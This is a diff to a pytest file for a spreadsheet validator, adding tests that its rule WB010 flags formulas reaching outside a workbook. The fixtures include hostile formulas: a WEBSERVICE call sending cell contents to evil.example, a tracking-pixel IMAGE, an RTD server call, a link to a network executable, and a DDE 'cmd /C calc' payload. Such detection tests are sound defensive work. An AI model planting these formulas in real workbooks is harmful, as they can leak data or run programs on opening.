@@ -354,6 +354,67 @@ def test_a_hyperlink_to_a_web_page_is_not_wb010(tmp_path):
     assert _wb010(tmp_path, data)[1] == []
 
 
+def _cover_with(data: bytes, cell: str = "", after_data: str = "", defined: str = "") -> bytes:
+    """The workbook with, on its Cover, a cell beside the fields (column D, which no field uses) and elements
+    after the sheet's data; and with defined names."""
+    from tests.hostile import rezip
+
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        cover, book = z.read("xl/worksheets/sheet2.xml").decode(), z.read("xl/workbook.xml").decode()
+    cover = cover.replace("</c></row>", f"</c>{cell}</row>", 1).replace("</sheetData>", f"</sheetData>{after_data}")
+    book = book.replace("<definedNames />", f"<definedNames>{defined}</definedNames>")
+    return rezip(data, replace={"xl/worksheets/sheet2.xml": cover.encode(), "xl/workbook.xml": book.encode()})
+
+
+@pytest.mark.parametrize(("formula", "named"), [
+    ('_xlfn.WEBSERVICE("https://evil.example/?q="&amp;B3)', "WEBSERVICE"),
+    ("webservice(B3)", "WEBSERVICE"),
+    ('_xlfn.IMAGE("https://evil.example/pixel.png")', "IMAGE"),
+    ('RTD("evil.server",,"topic")', "RTD"),
+    ('HYPERLINK("file://///finance-srv/icp/run.exe","Open")', "HYPERLINK"),
+    ("cmd|' /C calc'!A0", "a DDE link"),
+    ("'\\\\finance-srv\\icp\\[Budget.xlsx]Rates'!A1", "another workbook"),
+    ("SUM([Budget 2026.xlsx]Rates!A1:A3)", "another workbook"),
+])
+def test_a_formula_that_reaches_outside_the_workbook_is_wb010_wherever_it_is(tmp_path, formula, named):
+    """A formula calling a function that fetches a web address, starts a program or follows a link (WEBSERVICE,
+    IMAGE, RTD, HYPERLINK), a DDE link, or a reference into another workbook, reaches outside when the original is
+    opened and calculated: WB010, naming the function and where it is.  In a cell, a conditional format, a
+    validation, or a defined name alike; the workbook is still assessed."""
+    base = valid_bytes(tmp_path)
+    places = {
+        "cell D2 of sheet 'Cover'": _cover_with(base, cell=f'<c r="D2"><f>{formula}</f><v>0</v></c>'),
+        "the conditional format of B3 on sheet 'Cover'": _cover_with(base, after_data=(
+            f'<conditionalFormatting sqref="B3"><cfRule type="expression" priority="1"><formula>{formula}'
+            "</formula></cfRule></conditionalFormatting>")),
+        "the validation of B4 on sheet 'Cover'": _cover_with(base, after_data=(
+            f'<dataValidations count="1"><dataValidation type="custom" sqref="B4"><formula1>{formula}</formula1>'
+            "</dataValidation></dataValidations>")),
+        "the defined name 'Rates'": _cover_with(base, defined=f'<definedName name="Rates">{formula}</definedName>'),
+    }
+    for where, data in places.items():
+        report, messages = _wb010(tmp_path, data)
+        assert messages == [f"The workbook has a formula calling {named} ({where}): opening the original and "
+                            "calculating it may make it reach a web address, a file or another program."], where
+        assert not report.refused and report.exit_code == 0, where
+
+
+@pytest.mark.parametrize("formula", [
+    "SUM(B13:B14)", 'IF(B3="WEBSERVICE(x)","a|b","[Budget.xlsx]Rates!A1")', "Services[[#This Row],[value_gbp]]",
+    "'Partners (2026)'!A1", "INDEX(Finance!D7:D9,2)",
+])
+def test_a_formula_that_stays_within_the_workbook_is_not_wb010(tmp_path, formula):
+    """Function names, bars and brackets inside a formula's text literals, structured references and references
+    to the workbook's own sheets reach nothing."""
+    base = valid_bytes(tmp_path)
+    for data in (_cover_with(base, cell=f'<c r="D2"><f>{formula.replace("&", "&amp;")}</f><v>0</v></c>'),
+                 _cover_with(base, after_data=(
+                     '<dataValidations count="1"><dataValidation type="list" sqref="B4"><formula1>"Yes,No"'
+                     "</formula1></dataValidation></dataValidations>"))):
+        report, messages = _wb010(tmp_path, data)
+        assert messages == [] and report.exit_code == 0
+
+
 def test_an_external_link_kept_elsewhere_under_another_type_is_found_by_its_relationship(tmp_path):
     """Spreadsheet programs find an external link by the workbook's relationship that names it, whatever the part
     is called or declared as: a link kept as `xl/media/rates.bin`, declared as an image, is still WB010."""
@@ -1931,3 +1992,12 @@ def test_a_shared_string_named_otherwise_than_by_its_digits_is_wb001(tmp_path, v
     findings = _refused(tmp_path, data)
     assert [f.rule_id for f in findings] == ["WB001"]
     assert f"cell K100 of sheet 'Services' names a shared string as {value.decode()!r}" in findings[0].message
+
+
+def test_formulas_reaching_outside_are_one_wb010_a_sheet_naming_the_first(tmp_path):
+    cells = ('<c r="D2"><f>_xlfn.WEBSERVICE(B3)</f><v>0</v></c><c r="E2"><f>RTD("a",,"b")</f><v>0</v></c>'
+             '<c r="F2"><f>HYPERLINK("https://x.example/")</f><v>0</v></c>')
+    messages = _wb010(tmp_path, _cover_with(valid_bytes(tmp_path), cell=cells))[1]
+    assert messages == ["The workbook has a formula calling WEBSERVICE (cell D2 of sheet 'Cover'; 2 other formulas "
+                        "there reach outside too): opening the original and calculating it may make it reach a web "
+                        "address, a file or another program."]
